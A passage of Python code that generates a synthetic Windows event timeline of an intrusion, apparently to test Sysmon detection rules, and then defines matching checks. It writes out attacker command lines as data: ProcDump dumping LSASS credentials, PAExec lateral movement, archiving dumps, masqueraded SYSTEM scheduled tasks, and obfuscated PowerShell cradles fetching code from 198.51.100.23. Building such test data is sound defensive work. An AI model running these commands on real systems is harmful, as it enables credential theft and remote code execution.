    pc = tr.start(d, acmd, TAPI + "pc.exe", "C:\\Windows\\TAPI\\pc.exe -accepteula -ma lsass.exe C:\\Windows\\TAPI\\lsass.dmp",
                  hashes=H_PC, meta=("procdump", SYSINT, "ProcDump", "Sysinternals process dump utility"),
                  expect=(R_TAPI_PROC, R_PROCDUMP, R_IOC))
    tr.create(d + 1_604, pc, TAPI + "lsass.dmp", expect=(R_TAPI_FILE,))
    tr.exit(d + 4_377, pc)

    PAEXEC_META = ("paexec.exe", "Power Admin LLC", "PAExec Application", "PAExec Application")

    def paexec(ms, pid, args, life_ms):
        """pa.exe on the workstation, PAExec's service half on LF-FS01."""
        pa = tr.start(ms, acmd, TAPI + "pa.exe",
                      "C:\\Windows\\TAPI\\pa.exe \\\\LF-FS01 -u LAWFIRM\\itp-admin -p %s %s" % (REDACTED, args),
                      pid=pid, hashes=H_PA, meta=PAEXEC_META, expect=(R_PAEXEC, R_TAPI_PROC, R_IOC))
        exe = "C:\\Windows\\PAExec-%d-LF-WS-0142.exe" % pid
        # PAExec copies itself to ADMIN$: same binary, same SHA-256
        tr.create(ms + 612, fs_system, exe, H_PA, expect=(R_IOC,))
        svc_ = tr.start(ms + 941, fs_services, exe, "%s -service" % exe, user=SYSTEM_USER, integrity="System",
                        cwd=SYS32, hashes=H_PA, meta=PAEXEC_META, expect=(R_IOC,))
        tr.exit(ms + life_ms, pa)
        return pa, svc_, exe

    # Lateral movement 1: recon on the file server as SYSTEM (PAExec -s).
    l1 = t("04:30:04.550")
    pa1, svc1, exe1 = paexec(l1, 4312, '-s cmd.exe /c "whoami & hostname & quser"', 6_480)
    c1 = tr.start(l1 + 1_230, svc1, CMD, 'cmd.exe /c "whoami & hostname & quser"')
    tr.console(l1 + 1_230, c1, 4_610)
    tr.run(l1 + 1_420, c1, C + "whoami.exe", "whoami", 380)
    tr.run(l1 + 1_850, c1, C + "HOSTNAME.EXE", "hostname", 210)
    tr.run(l1 + 2_090, c1, C + "quser.exe", "quser", 2_950)
    tr.exit(l1 + 5_120, c1)
    tr.exit(l1 + 5_906, svc1)
    tr.delete(l1 + 6_702, fs_system, exe1)

    # Copy ProcDump and the implant to the file server over C$ (cmd's own copy:
    # written on LF-FS01 by the System process), then tidy the desktop.
    cp = t("04:33:40.281")
    tr.create(cp, fs_system, TAPI + "pc.exe", H_PC,
              expect=(R_TAPI_FILE, R_IOC))
    tr.create(cp + 19_402, fs_system, "C:\\ProgramData\\Microsoft\\svchost.exe",
              H_RAT, expect=(R_IOC,))
    tr.delete(cp + 31_118, acmd, "C:\\Users\\itp-admin\\Desktop\\svchost.exe")

    # Lateral movement 2: dump LSASS on the file server (note /ma, not -ma).
    l2 = t("04:37:12.806")
    pa2, svc2, exe2 = paexec(l2, 6120, "-s -d C:\\Windows\\TAPI\\pc.exe -accepteula /ma lsass.exe C:\\Windows\\TAPI\\lsass.dmp",
                             2_860)
    pc2 = tr.start(l2 + 1_288, svc2, TAPI + "pc.exe",
                   "C:\\Windows\\TAPI\\pc.exe -accepteula /ma lsass.exe C:\\Windows\\TAPI\\lsass.dmp",
                   hashes=H_PC, meta=("procdump", SYSINT, "ProcDump", "Sysinternals process dump utility"),
                   expect=(R_TAPI_PROC, R_PROCDUMP, R_IOC))
    tr.exit(l2 + 2_305, svc2)
    tr.delete(l2 + 3_011, fs_system, exe2)
    tr.create(l2 + 3_447, pc2, TAPI + "lsass.dmp", expect=(R_TAPI_FILE,))
    tr.exit(l2 + 7_962, pc2)

    # Pull the server's dump back, archive both with Rar, delete the dumps, and
    # (after the archive has left over the RDP clipboard) the archive.
    pb = t("04:41:09.330")
    tr.create(pb, acmd, TAPI + "fs01.dmp", expect=(R_TAPI_FILE,))
    rar = tr.start(pb + 95_210, acmd, TAPI + "Rar.exe",
                   "C:\\Windows\\TAPI\\Rar.exe a -hp%s C:\\Windows\\TAPI\\out.rar C:\\Windows\\TAPI\\lsass.dmp "
                   "C:\\Windows\\TAPI\\fs01.dmp" % REDACTED,
                   hashes=H_RAR, meta=("Rar.exe", "Alexander Roshal", "WinRAR", "Command line RAR"),
                   expect=(R_TAPI_PROC,))
    tr.create(pb + 95_502, rar, TAPI + "out.rar", expect=(R_TAPI_FILE,))
    tr.exit(pb + 109_884, rar)
    tr.delete(pb + 141_020, acmd, TAPI + "lsass.dmp")
    tr.delete(pb + 141_031, acmd, TAPI + "fs01.dmp")
    tr.delete(pb + 566_774, acmd, TAPI + "out.rar")

    # Lateral movement 3: clean up the server's dump and install the implant
    # (named svchost.exe, in C:\ProgramData\Microsoft) as a SYSTEM boot task.
    l3 = t("04:53:26.015")
    task = "\\Microsoft\\Windows\\WDI\\SrvHost"
    pa3, svc3, exe3 = paexec(
        l3, 7064,
        '-s -d cmd.exe /c "del /f /q C:\\Windows\\TAPI\\lsass.dmp & schtasks /create /f /ru SYSTEM /sc onstart '
        '/tn %s /tr C:\\ProgramData\\Microsoft\\svchost.exe & schtasks /run /tn %s"' % (task, task), 2_410)
    c3 = tr.start(l3 + 1_302, svc3,
                  CMD, 'cmd.exe /c "del /f /q C:\\Windows\\TAPI\\lsass.dmp & schtasks /create /f /ru SYSTEM /sc onstart '
                  '/tn %s /tr C:\\ProgramData\\Microsoft\\svchost.exe & schtasks /run /tn %s"' % (task, task))
    tr.console(l3 + 1_302, c3, 1_660)
    tr.exit(l3 + 1_711, svc3)
    tr.delete(l3 + 1_407, c3, TAPI + "lsass.dmp")
    tr.run(l3 + 1_521, c3, C + "schtasks.exe",
           "schtasks  /create /f /ru SYSTEM /sc onstart /tn %s /tr C:\\ProgramData\\Microsoft\\svchost.exe" % task, 389)
    tr.create(l3 + 1_833, fs_sched, "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\WDI\\SrvHost")
    tr.run(l3 + 2_016, c3, C + "schtasks.exe", "schtasks  /run /tn %s" % task, 301)
    tr.exit(l3 + 2_870, c3)
    tr.delete(l3 + 3_206, fs_system, exe3)
    rat = tr.start(l3 + 2_204, fs_sched, "C:\\ProgramData\\Microsoft\\svchost.exe",
                   "C:\\ProgramData\\Microsoft\\svchost.exe", user=SYSTEM_USER, integrity="System", cwd=SYS32,
                   hashes=H_RAT, meta=NOVER, expect=(R_MASQ, R_IOC))

    # Same trick on the workstation, with the copy named RuntimeBroker.exe
    # (its hash here is synthetic: the report ties its hashes to other names).
    wp = t("04:58:40.772")
    wtask = "\\Microsoft\\Windows\\Shell\\RuntimeBrokerHost"
    tr.run(wp, acmd, C + "schtasks.exe",
           'schtasks  /create /f /ru SYSTEM /sc onlogon /tn %s /tr C:\\Users\\Public\\RuntimeBroker.exe' % wtask, 412)
    tr.create(wp + 288, ws_sched, "C:\\Windows\\System32\\Tasks\\Microsoft\\Windows\\Shell\\RuntimeBrokerHost")
    tr.run(wp + 14_930, acmd, C + "schtasks.exe", "schtasks  /run /tn %s" % wtask, 297)
    ws_rat = tr.start(wp + 15_102, ws_sched, "C:\\Users\\Public\\RuntimeBroker.exe", "C:\\Users\\Public\\RuntimeBroker.exe",
                      user=SYSTEM_USER, integrity="System", cwd=SYS32,
                      hashes=H_RB, meta=NOVER, expect=(R_MASQ,))

    # The actor logs off.
    lo = t("05:04:12.090")
    tr.exit(lo, acmd)
    tr.exit(lo + 35, acon)
    for i, p in enumerate([a_ctf, a_rb, a_rdpclip, a_taskhost, a_sihost, a_expl, dwm2, umfd2, winlogon2]):
        tr.exit(lo + 2_140 + 120 * i, p)
    tr.exit(lo + 3_900, csrss2)

    # ---------------- the implants at work (DEV-0056-style command lines) -----
    # The report gives these command lines for DEV-0056; running them from
    # DEV-0228's implants is this reconstruction's choice, to exercise the rule.
    def rat_cmd(ms, parent, tail, life_ms, child=None, expect_child=()):
        c = tr.start(ms, parent, CMD, "cmd.exe /q /c color f7&" + tail, expect=(R_DEV0056,))
        tr.console(ms, c, life_ms - 40)
        ch = None
        if child:
            image, cmd, clife = child
            ch = tr.run(ms + 97, c, image, cmd, clife, expect=expect_child)
        tr.exit(ms + life_ms, c)
        return c, ch

    rat_cmd(t("05:12:44.507"), rat, "whoami /all", 900, (C + "whoami.exe", "whoami  /all", 640))
    rat_cmd(t("05:13:31.220"), rat, "ipconfig /all", 1_020, (C + "ipconfig.exe", "ipconfig  /all", 780))
    _, rnet = rat_cmd(t("05:15:02.913"), rat, 'net group "domain admins" /domain', 1_900,
                      (C + "net.exe", 'net  group "domain admins" /domain', 1_600))
    tr.run(t("05:15:03.044"), rnet, C + "net1.exe", 'C:\\Windows\\system32\\net1  group "domain admins" /domain', 1_530)

    payload = ("$s=Get-WmiObject Win32_ComputerSystem;$o=@{h=$s.Name;d=$s.Domain;u=$s.UserName};"
               "$o|ConvertTo-Json -Compress")
    b64 = base64.b64encode(payload.encode("utf-8")).decode()
    enc = "-nop -w hidden -c \"(iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('%s'))))\"" % b64
    rat_cmd(t("05:41:17.650"), rat, "powershell " + enc, 6_300, (PS, "powershell  " + enc, 5_900), (R_DEV0056,))

    dl = ("-nop -w hidden -c \"$w=New-Object Net.We$()bClient;$b=$w.DownloadData('http://198.51.100.23/i/logo.png');"
          "iex([Text.Encoding]::UTF8.GetString($b,15,$b.Length-15))\"")
    rat_cmd(t("06:22:05.004"), rat, "powershell " + dl, 9_480, (PS, "powershell  " + dl, 9_120), (R_DEV0056,))

    dl2 = ("-nop -w hidden -c \"$c=New-Object Net.We$( )bClient;"
           "iex $c.DownloadString('http://198.51.100.23/i/a.txt')\"")
    rat_cmd(t("06:49:33.318"), ws_rat, "powershell " + dl2, 4_710, (PS, "powershell  " + dl2, 4_400), (R_DEV0056,))

    rat_cmd(t("07:58:50.176"), rat, "tasklist /v", 2_300, (C + "tasklist.exe", "tasklist  /v", 2_050))

    # ---------------- jdoe's ordinary morning on LF-WS-0142 -----------------
    j = t("05:31:20.481")
    ui1 = tr.start(j, winlogon1, C + "userinit.exe", "C:\\Windows\\system32\\userinit.exe", user=JDOE,
                   integrity="Medium", cwd=SYS32)
    tr.exit(j + 1_900, logonui)
    tr.start(j + 95, ws_usermgr, C + "sihost.exe", "sihost.exe", user=JDOE, integrity="Medium")
    tr.start(j + 260, ws_sched, C + "taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}",
             user=JDOE, integrity="Medium")
    expl = tr.start(j + 512, ui1, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", cwd=SYS32)
    tr.exit(j + 30_512, ui1)
    tr.start(j + 780, ws_tablet, C + "ctfmon.exe", '"ctfmon.exe"', user=JDOE, integrity="Medium")
    for k in range(2):
        tr.start(j + 1_920 + 611 * k, ws_dcom, C + "RuntimeBroker.exe",
                 "C:\\Windows\\System32\\RuntimeBroker.exe -Embedding", user=JDOE, integrity="Medium")
    tr.start(j + 4_118, expl, C + "SecurityHealthSystray.exe", '"C:\\Windows\\System32\\SecurityHealthSystray.exe" ',
             cwd="C:\\Users\\jdoe\\")
    od_img = "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe"
    onedrive = tr.start(j + 4_905, expl, od_img, '"%s" /background' % od_img, cwd="C:\\Users\\jdoe\\")
    tr.write(j + 9_301, onedrive, "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\logs\\Personal\\SyncDiagnostics.log")
    tr.create(j + 9_850, onedrive, "C:\\Users\\jdoe\\AppData\\Local\\Temp\\OneDrive_2021-08-17_053130.tmp")
    tr.delete(j + 10_410, onedrive, "C:\\Users\\jdoe\\AppData\\Local\\Temp\\OneDrive_2021-08-17_053130.tmp")

    # Outlook, and the Telephony service it wakes (which rewrites tsec.ini:
    # the one file in C:\Windows\TAPI that is expected to change).
    o = t("05:33:02.776")
    outlook = tr.start(o, expl, OUTLOOK, '"%s" ' % OUTLOOK, cwd="C:\\Users\\jdoe\\")
    ost = "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Outlook\\jdoe@lawfirm.example.ost"
    tapisrv = tr.start(o + 4_112, services, SVCHOST, SVCHOST_CMD + "NetworkService -p -s TapiSrv", user=NETWORK_SERVICE,
                       integrity="System", cwd=SYS32)
    tr.write(o + 4_390, tapisrv, TAPI + "tsec.ini")
    for k in range(4):
        tr.write(o + 7_000 + k * 631_557, outlook, ost)

    # Edge, with its helper processes and a few tabs.
    w = t("05:36:44.192")
    common = ' --field-trial-handle=1712,11640436137766393417,9203848261718541813,131072 /prefetch:%d'
    edge = tr.start(w, expl, EDGE, '"%s" ' % EDGE, cwd="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\")
    ud = "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Edge\\User Data"
    tr.start(w + 122, edge, EDGE,
             '"%s" --type=crashpad-handler "--user-data-dir=%s" /prefetch:7 --monitor-self-annotation=ptype=crashpad-handler '
             '"--database=%s\\Crashpad" --annotation=IsOfficialBuild=1 --annotation=channel= '
             '--annotation=chromium-version=92.0.4515.131 --annotation=plat=Win64 --annotation=prod=Edge '
             '--annotation=ver=92.0.902.73 --initial-client-data=0x200,0x204,0x208,0x1dc,0x20c,0x7ffd4a5fbf28,0x7ffd4a5fbf38,0x7ffd4a5fbf48'
             % (EDGE, ud, ud))
    tr.start(w + 361, edge, EDGE, '"%s" --type=gpu-process --gpu-preferences=UAAAAAAAAADgAAAYAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA'
             ' --mojo-platform-channel-handle=1728' % EDGE + common % 2)
    tr.start(w + 402, edge, EDGE, '"%s" --type=utility --utility-sub-type=network.mojom.NetworkService --lang=en-US '
             '--service-sandbox-type=none --mojo-platform-channel-handle=2116' % EDGE + common % 3)
    tr.start(w + 447, edge, EDGE, '"%s" --type=utility --utility-sub-type=storage.mojom.StorageService --lang=en-US '
             '--service-sandbox-type=utility --mojo-platform-channel-handle=2292' % EDGE + common % 8)

    def renderer(ms, client, life):
        p = tr.start(ms, edge, EDGE, '"%s" --type=renderer --lang=en-US --device-scale-factor=1 --num-raster-threads=4 '
                     '--enable-main-frame-before-activation --renderer-client-id=%d --mojo-platform-channel-handle=%d'
                     % (EDGE, client, 3000 + client * 37) + common % 1, integrity="Untrusted")
        if life:
            tr.exit(ms + life, p)
        return p

    for k in range(2):
        renderer(w + 1_200 + k * 388, 5 + k, None)
    tabs = sorted(rnd.randrange(60_000, 9_000_000) for _ in range(6))
    for k, off in enumerate(tabs):
        renderer(w + off, 9 + k, rnd.randrange(40_000, 1_500_000) if k % 3 else None)
    dlp = "C:\\Users\\jdoe\\Downloads\\"
    tr.create(w + 812_440, edge, dlp + "Unconfirmed 482913.crdownload")
    tr.write(w + 813_004, edge, dlp + "Unconfirmed 482913.crdownload")
    tr.rename(w + 813_771, edge, dlp + "Unconfirmed 482913.crdownload", dlp + "Supreme Court ruling 4471-19.pdf")
    tr.create(w + 2_640_118, edge, dlp + "Unconfirmed 771046.crdownload")
    tr.rename(w + 2_641_230, edge, dlp + "Unconfirmed 771046.crdownload", dlp + "Land registry extract 2021-08.pdf")

    # An attachment opened in Word, edited, saved to Documents (Word's
    # write-temp-then-rename dance), saved again, closed.
    a = t("05:52:10.660")
    cache = "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\7QJ2MX1B\\"
    att = cache + "NDA - Cohen Holdings.docx"
    tr.create(a, outlook, att)
    word = tr.start(a + 1_480, outlook, WORD, '"%s" /n "%s" /o ""' % (WORD, att),
                    cwd="C:\\Program Files\\Microsoft Office\\root\\Office16\\")
    tr.create(a + 3_210, word, cache + "~$A - Cohen Holdings.docx")
    tr.create(a + 4_008, word, "C:\\Users\\jdoe\\AppData\\Local\\Temp\\~DF7E1C55A02B4D91.TMP")
    docs = "C:\\Users\\jdoe\\Documents\\Clients\\Cohen Holdings\\"
    doc = docs + "NDA - Cohen Holdings (jd comments).docx"
    sv = a + 1_104_300
    tr.create(sv, word, docs + "~WRD0000.tmp")
    tr.write(sv + 180, word, docs + "~WRD0000.tmp")
    tr.rename(sv + 402, word, docs + "~WRD0000.tmp", doc)
    tr.create(sv + 520, word, docs + "~$A - Cohen Holdings (jd comments).docx")
    tr.delete(sv + 611, word, cache + "~$A - Cohen Holdings.docx")
    sv2 = sv + 1_538_770
    tr.create(sv2, word, docs + "~WRD0002.tmp")
    tr.write(sv2 + 201, word, docs + "~WRD0002.tmp")
    tr.rename(sv2 + 388, word, doc, docs + "~WRL0001.tmp")
    tr.rename(sv2 + 391, word, docs + "~WRD0002.tmp", doc)
    tr.delete(sv2 + 470, word, docs + "~WRL0001.tmp")
    tr.delete(sv2 + 98_410, word, docs + "~$A - Cohen Holdings (jd comments).docx")
    tr.delete(sv2 + 98_650, word, "C:\\Users\\jdoe\\AppData\\Local\\Temp\\~DF7E1C55A02B4D91.TMP")
    tr.exit(sv2 + 99_020, word)
    fco = tr.start(sv + 2_880, ws_dcom, "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\21.150.0725.0001\\FileCoAuth.exe",
                   '"C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\OneDrive\\21.150.0725.0001\\FileCoAuth.exe" -Embedding',
                   user=JDOE, integrity="Medium", cwd="C:\\Users\\jdoe\\")
    tr.exit(sv + 62_880, fco)

    # Notepad.
    np_ = tr.start(t("06:05:13.448"), expl, C + "notepad.exe", '"C:\\Windows\\system32\\NOTEPAD.EXE" C:\\Users\\jdoe\\Desktop\\todo.txt',
                   cwd="C:\\Users\\jdoe\\Desktop\\")
    tr.write(t("06:09:02.117"), np_, "C:\\Users\\jdoe\\Desktop\\todo.txt")
    tr.exit(t("06:09:04.530"), np_)

    # ---------------- near misses on LF-FS01: an admin at work ---------------
    # adm-mlevi tries ProcDump on a harmless process first (no lsass), and
    # lists the LSASS process (no ProcDump).
    nm = t("07:31:05.550")
    mcmd = tr.start(nm, fs_explorer, CMD, '"C:\\Windows\\system32\\cmd.exe" ', cwd="C:\\Users\\adm-mlevi\\")
    tr.console(nm, mcmd, 412_000)
    npad = tr.start(nm + 20_412, fs_explorer, C + "notepad.exe", '"C:\\Windows\\system32\\notepad.exe" ',
                    cwd="C:\\Users\\adm-mlevi\\")
    tr.run(nm + 61_118, mcmd, C + "tasklist.exe", 'tasklist  /fi "imagename eq lsass.exe"', 660)
    pd = tr.start(nm + 95_230, mcmd, "C:\\Tools\\Sysinternals\\procdump64.exe",
                  "C:\\Tools\\Sysinternals\\procdump64.exe -accepteula -ma notepad.exe C:\\Temp\\notepad.dmp")
    tr.create(nm + 96_100, pd, "C:\\Temp\\notepad.dmp")
    tr.exit(nm + 97_004, pd)
    tr.delete(nm + 301_775, mcmd, "C:\\Temp\\notepad.dmp")
    tr.exit(nm + 390_227, npad)
    tr.exit(nm + 412_120, mcmd)

    # Windows Update servicing on the server: TrustedInstaller and TiWorker
    # (which runs out of WinSxS).
    wu = t("07:47:30.018")
    ti = tr.start(wu, fs_services, "C:\\Windows\\servicing\\TrustedInstaller.exe", "C:\\Windows\\servicing\\TrustedInstaller.exe")
    tiw_img = ("C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.17763.2090_none_"
               "5d4e2f7b1b7a4c28\\TiWorker.exe")
    tiw = tr.start(wu + 1_204, fs_dcom, tiw_img, "%s -Embedding" % tiw_img)
    for k in range(5):
        tr.write(wu + 4_000 + k * 61_313, tiw, "C:\\Windows\\Logs\\CBS\\CBS.log")
    tr.create(wu + 33_870, tiw, "C:\\Windows\\WinSxS\\Temp\\PendingRenames\\b1c4e2d3a5f6f7e8.cat")
    tr.delete(wu + 298_100, tiw, "C:\\Windows\\WinSxS\\Temp\\PendingRenames\\b1c4e2d3a5f6f7e8.cat")
    tr.exit(wu + 330_500, tiw)
    tr.exit(wu + 452_900, ti)

    # ---------------- background noise on both hosts -------------------------
    # Periodic and random system activity across the window; all of it benign.
    ws_tasks = [
        ('"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler',
         "C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", SYSTEM_USER, "System"),
        ('"C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe" /frequentupdate SCHEDULEDTASK displaylevel=False',
         "C:\\Program Files\\Common Files\\Microsoft Shared\\ClickToRun\\OfficeC2RClient.exe", SYSTEM_USER, "System"),
        ("C:\\Windows\\system32\\compattelrunner.exe -m:appraiser.dll -f:DoScheduledTelemetryRun",
         C + "CompatTelRunner.exe", SYSTEM_USER, "System"),
        ('"%sMpCmdRun.exe" -IdleTask -TaskName WdCacheMaintenance' % DEFENDER, DEFENDER + "MpCmdRun.exe",
         SYSTEM_USER, "System"),
        ("C:\\Windows\\system32\\wermgr.exe -upload", C + "wermgr.exe", SYSTEM_USER, "System"),
    ]
    for k, off in enumerate(sorted(rnd.randrange(0, 15_800_000) for _ in range(4))):
        cmd, img, user, integ = ws_tasks[k % len(ws_tasks)]
        when = t("04:02:00") + off
        tr.run(when, ws_sched, img, cmd, rnd.randrange(1_500, 40_000), user=user, integrity=integ, cwd=SYS32)

    # Search indexer helpers (many short-lived processes).
    for host, idx in ((WS, ws_searchidx), (FS, fs_searchidx)):
        for n_, off in enumerate(sorted(rnd.randrange(0, 15_500_000) for _ in range(4 if host == WS else 2))):
            when = t("04:01:30") + off
            tr.run(when, idx, C + "SearchProtocolHost.exe",
                        '"C:\\Windows\\system32\\SearchProtocolHost.exe" Global\\UsGthrFltPipeMssGthrPipe%d '
                        'Global\\UsGthrCtrlFltPipeMssGthrPipe%d 1 -2147483646 "Software\\Microsoft\\Windows Search" '
                        '"Mozilla/4.0 (compatible; MSIE 6.0; Windows NT; MS Search 4.0 Robot)" '
                        '"C:\\ProgramData\\Microsoft\\Search\\Data\\Temp\\usgthrsvc" "DownLevelDaemon" '
                        % (rnd.randrange(1, 99), rnd.randrange(1, 99)), rnd.randrange(30_000, 120_000))
            if n_ % 2:
                continue
            tr.run(when + 140, idx, C + "SearchFilterHost.exe",
                   '"C:\\Windows\\system32\\SearchFilterHost.exe" 0 %d %d %d 8192 %d ' % (
                       rnd.randrange(700, 900), rnd.randrange(700, 900), rnd.randrange(700, 900),
                       rnd.randrange(700, 900)), rnd.randrange(20_000, 90_000))

    # Service hosts started on demand during the day (the genuine svchost.exe
    # and RuntimeBroker.exe, all in System32; some with the upper-case
    # C:\WINDOWS\system32 spelling Sysmon sometimes reports).
    demand = [
        (WS, "netsvcs -p -s BITS", SYSTEM_USER), (WS, "LocalService -p -s fdPHost", LOCAL_SERVICE),
        (WS, "wsappx -p -s ClipSVC", SYSTEM_USER), (WS, "netsvcs -p -s wlidsvc", SYSTEM_USER),
        (WS, "LocalSystemNetworkRestricted -p -s SysMain", SYSTEM_USER),
        (FS, "netsvcs -p -s BITS", SYSTEM_USER), (FS, "NetworkService -p -s CryptSvc", NETWORK_SERVICE),
        (FS, "LocalService -p -s W32Time", LOCAL_SERVICE), (FS, "netsvcs -p -s wuauserv", SYSTEM_USER),
    ]
    for k, (host, grp, user) in enumerate(demand):
        when = t("04:05:00") + rnd.randrange(0, 14_000_000)
        par = services if host == WS else fs_services
        upper = k in (1, 6)
        img = "C:\\WINDOWS\\system32\\svchost.exe" if upper else SVCHOST
        p = tr.start(when, par, img, ("C:\\WINDOWS\\system32\\svchost.exe -k " if upper else SVCHOST_CMD) + grp,
                     user=user, integrity="System", cwd=SYS32)
        if k % 2:
            tr.exit(when + rnd.randrange(60_000, 900_000), p)
    for k in range(3):
        when = t("05:40:00") + rnd.randrange(0, 9_000_000)
        img = "C:\\WINDOWS\\system32\\RuntimeBroker.exe" if k == 2 else C + "RuntimeBroker.exe"
        p = tr.start(when, ws_dcom, img, img + " -Embedding", user=JDOE, integrity="Medium")
        tr.exit(when + rnd.randrange(30_000, 600_000), p)

    # WMI, background tasks, Defender writes, Windows temp files.
    for host, dcom, mpeng in ((WS, ws_dcom, ws_mpeng), (FS, fs_dcom, fs_mpeng)):
        for off in sorted(rnd.randrange(0, 15_000_000) for _ in range(2)):
            tr.run(t("04:04:00") + off, dcom, C + "wbem\\WmiPrvSE.exe",
                   "C:\\Windows\\system32\\wbem\\wmiprvse.exe -Embedding", rnd.randrange(60_000, 300_000),
                   user=NETWORK_SERVICE, integrity="System", cwd=SYS32)
        for off in sorted(rnd.randrange(0, 15_500_000) for _ in range(3)):
            tr.write(t("04:02:00") + off, mpeng,
                     "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\History\\Service\\DetectionHistory\\"
                     "mpcache-%08X.bin" % rnd.randrange(0, 1 << 32) if off % 2 else
                     "C:\\ProgramData\\Microsoft\\Windows Defender\\Scans\\mpenginedb.db-wal")
    for off in sorted(rnd.randrange(0, 11_000_000) for _ in range(2)):
        when = t("05:35:00") + off
        tr.run(when, ws_dcom, C + "backgroundTaskHost.exe",
               '"C:\\Windows\\system32\\backgroundTaskHost.exe" -ServerName:App.AppXmtcan0h2tfbfy7k9kmpkbw8fthenvpeb.mca',
               rnd.randrange(5_000, 30_000), user=JDOE, integrity="Low", cwd=SYS32)
    for off in sorted(rnd.randrange(0, 10_500_000) for _ in range(3)):
        when = t("05:40:00") + off
        name = "C:\\Users\\jdoe\\AppData\\Local\\Temp\\%s.tmp" % ("".join(rnd.choice("0123456789abcdef") for _ in range(8)))
        tr.create(when, outlook if off % 2 else onedrive, name)
        tr.delete(when + rnd.randrange(2_000, 90_000), outlook if off % 2 else onedrive, name)

    # Users saving documents on the file server over SMB (written by System).
    share = "D:\\Shares\\Clients\\"
    matters = ["Goldberg v. Shamir\\Pleadings\\Statement of claim draft 4.docx",
               "Cohen Holdings\\Due diligence\\Share register 2021.xlsx",
               "Goldberg v. Shamir\\Exhibits\\Exhibit 12 - invoices.pdf",
               "Cohen Holdings\\NDA - Cohen Holdings (jd comments).docx"]
    for k, off in enumerate(sorted(rnd.randrange(0, 12_500_000) for _ in range(len(matters)))):
        when = t("04:20:00") + off
        path = share + matters[k]
        folder = path.rsplit("\\", 1)[0] + "\\"
        if path.endswith(".pdf"):
            tr.create(when, fs_system, path)
            continue
        tmp = folder + "~WRD%04d.tmp" % (10 + k)
        tr.create(when, fs_system, tmp)
        tr.write(when + 240, fs_system, tmp)
        if k % 2:
            tr.rename(when + 390, fs_system, path, folder + "~WRL%04d.tmp" % (10 + k))
            tr.rename(when + 394, fs_system, tmp, path)
            tr.delete(when + 461, fs_system, folder + "~WRL%04d.tmp" % (10 + k))
        else:
            tr.rename(when + 390, fs_system, tmp, path)


# ---------------------------------------------------------------------------
# The checker: the seed pack's semantics, independently of the scenario's intent

def _low(s):
    # ASCII case folding only, as the engine does
    return s.translate(str.maketrans("ABCDEFGHIJKLMNOPQRSTUVWXYZ", "abcdefghijklmnopqrstuvwxyz"))


def _get(ev, field):
    v = ev.get(field)
    if v is None:
        return None
    return str(v) if not isinstance(v, str) else v


def contains(ev, field, *vals):
    s = _get(ev, field)
    return s is not None and any(_low(v) in _low(s) for v in vals)


def startswith(ev, field, *vals):
    s = _get(ev, field)
    return s is not None and any(_low(s).startswith(_low(v)) for v in vals)


def endswith(ev, field, *vals):
    s = _get(ev, field)
    return s is not None and any(_low(s).endswith(_low(v)) for v in vals)


def equals(ev, field, *vals):
    s = _get(ev, field)
    return s is not None and any(_low(s) == _low(v) for v in vals)


def windash(value):
    """pySigma's windash: a '-' or '/' that starts a word (regex \\B[-/]\\b)
    becomes each of - / en-dash em-dash horizontal-bar."""
    import re
    variants = ["-", "/", "\u2013", "\u2014", "\u2015"]
    parts = re.split(r"\B[-/]\b", value)
    out = [parts[0]]
    for part in parts[1:]:
        out = [o + d + part for o in out for d in variants]
    return out


class Checker:
    def __init__(self, ioc_path):
        self.iocs = set()
        with open(ioc_path, encoding="utf-8") as f:
            for line in f:
                content = line.split("#", 1)[0].strip()
                if content:
                    self.iocs.add(content.split()[0].lower())

    def alerts(self, ev):
        kind = ev["kind"]
        proc = kind == "process_start" and ev["os"] == "windows"
        fevt = kind in ("file_create", "file_write") and ev["os"] == "windows"
        out = []
        # 01 PAExec
        if proc and (endswith(ev, "Image", "\\paexec.exe") or equals(ev, "OriginalFileName", "paexec.exe")) \
                and not contains(ev, "CommandLine", "program files", "-service"):
            out.append(R_PAEXEC)
        # 02 file staged in TAPI
        if fevt and startswith(ev, "TargetFilename", "C:\\Windows\\TAPI\\") \
                and not equals(ev, "TargetFilename", "C:\\Windows\\TAPI\\tsec.ini"):
            out.append(R_TAPI_FILE)
        # 03 process from TAPI
        if proc and startswith(ev, "Image", "C:\\Windows\\TAPI\\"):
            out.append(R_TAPI_PROC)
        # 04 DEV-0056 PowerShell
        if proc and (contains(ev, "CommandLine", "/q /c color f7&", "Net.We$( )bClient", "Net.We$()bClient",
                              "$b,15,$b.Length-15")
                     or (contains(ev, "CommandLine", "FromBase64String")
                         and all(contains(ev, "CommandLine", v) for v in ("-nop", "iex", "(iex")))):
            out.append(R_DEV0056)
        # 05 ProcDump on LSASS
        if proc and (equals(ev, "OriginalFileName", "procdump")
                     or endswith(ev, "Image", "\\procdump.exe", "\\procdump64.exe")) \
                and contains(ev, "CommandLine", *windash("-ma")) and contains(ev, "CommandLine", "lsass"):
            out.append(R_PROCDUMP)
        # 06 svchost / RuntimeBroker outside the system folders
        if proc and endswith(ev, "Image", "\\svchost.exe", "\\RuntimeBroker.exe") \
                and not startswith(ev, "Image", "C:\\Windows\\System32\\", "C:\\Windows\\SysWOW64\\",
                                   "C:\\Windows\\WinSxS\\"):
            out.append(R_MASQ)
